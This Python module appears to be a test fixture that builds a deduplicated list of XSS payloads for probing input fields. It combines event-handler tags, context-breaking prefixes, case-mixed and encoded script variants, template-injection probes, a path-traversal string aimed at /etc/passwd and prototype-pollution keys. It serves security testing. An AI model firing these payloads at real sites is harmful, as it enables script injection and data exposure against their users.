"""What strangers write where a name or a text is expected, so that a page would execute it."""

from __future__ import annotations

from typing import Final

CALL: Final = "alert('XSS')"
_TAGS: Final = (
    *(
        "img src=x onerror={}",
        "svg onload={}",
        "body onload={}",
        "input autofocus onfocus={}",
        "video src=x onerror={}",
    ),
    *("audio src=x onerror={}", "details open ontoggle={}", "marquee onstart={}", "select autofocus onfocus={}"),
    *(
        "textarea autofocus onfocus={}",
        "keygen autofocus onfocus={}",
        "button onclick={} autofocus",
        "a onmouseover={}",
    ),
    *("iframe srcdoc='<script>{}</script>'", "object data=javascript:{}", "embed src=javascript:{}", "style onload={}"),
    *("link rel=stylesheet href=x onerror={}", "img src=x:x onerror={} x=", "svg><animate onbegin={} attributeName=x"),
    *("math href=javascript:{}", "form action=javascript:{}><input type=submit", "base href=javascript:{}//"),
    *("meta http-equiv=refresh content=0;url=javascript:{}", "table background=javascript:{}", "isindex onfocus={}"),
    *("img src='' onerror={}", "svg><script>{}</script", "p onpointerover={}", "x onclick={} tabindex=1 id=x"),
)
_CLOSERS: Final = ("", "'>", '">', "</title>", "</textarea>", "</script>", "</style>", "-->", "</pre>", "]]>")
_PLAIN: Final = (
    *(
        f"<script>{CALL}</script>",
        f"<ScRiPt>{CALL}</sCrIpT>",
        f"<script/x>{CALL}</script>",
        f"<<script>{CALL}//<</script>",
    ),
    *(f"javascript:{CALL}", f"jAvAsCrIpT:{CALL}", f"data:text/html,<script>{CALL}</script>", f"' onfocus={CALL} x='"),
    *(f'" onfocus={CALL} autofocus x="', f"` onmouseover={CALL} `", f"';{CALL}//", f'";{CALL}//', f"\\';{CALL}//"),
    *("{{7*7}}", "{% debug %}", "${" + CALL + "}", "#{7*7}", "{{config}}", "{{ ''.__class__.__mro__ }}", "<%= 7*7 %>"),
    *(f"</script><script>{CALL}</script>", f"<!--<img src=--><img src=x onerror={CALL}//>", f"<![CDATA[<script>{CALL}"),
    *(
        f"&lt;script&gt;{CALL}&lt;/script&gt;",
        f"&#60;script&#62;{CALL}",
        f"\\u003cscript\\u003e{CALL}",
        f"%3Cscript%3E{CALL}",
    ),
    *(
        f"\u202e<script>{CALL}",
        f"\u2028<img src=x onerror={CALL}>",
        f"＜script＞{CALL}＜/script＞",
        f"<img\u00a0src=x onerror={CALL}>",
    ),
    *(f"?q=<script>{CALL}</script>#", f"//evil.example/{CALL}", "../../../../etc/passwd", "__proto__", "constructor"),
    *(
        f"[x](javascript:{CALL})",
        f"<a href=javascript:{CALL}>x</a>",
        f"<math><mtext></form><form><mglyph><img src onerror={CALL}>",
    ),
)

PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            *_PLAIN,
            *(f"<{tag.format(CALL)}>" for tag in _TAGS),
            *(f"{closer}<img src=x onerror={CALL}>" for closer in _CLOSERS),
            *(f"{closer}<{tag.format(CALL)}>" for closer, tag in zip(_CLOSERS * 3, _TAGS, strict=False)),
        ]
    )
)
